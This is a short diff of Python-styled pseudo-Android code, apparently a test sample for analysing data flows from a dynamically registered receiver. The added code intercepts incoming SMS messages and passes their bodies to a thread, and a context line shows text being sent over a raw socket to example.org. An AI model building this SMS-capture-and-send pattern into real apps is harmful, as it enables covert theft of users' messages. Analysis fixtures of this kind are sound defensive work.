@@ -90,3 +90,16 @@ class Base(BroadcastReceiver):
 class Inbox(Base):
     def take(self, text: String):
         Socket("example.org", 4000).getOutputStream().write(text.getBytes())
+
+# also: from a receiver that only the code names
+@launcher
+class Main(Activity):
+    def onCreate(self, state):
+        super().onCreate(state)
+        self.registerReceiver(Inbox(), IntentFilter("android.provider.Telephony.SMS_RECEIVED"))
+
+class Inbox(BroadcastReceiver):
+    def onReceive(self, context, intent):
+        pdu = cast("byte[]", intent.getExtras().get("pdus"))
+        message = SmsMessage.createFromPdu(pdu)
+        Thread(Courier(message.getMessageBody())).start()
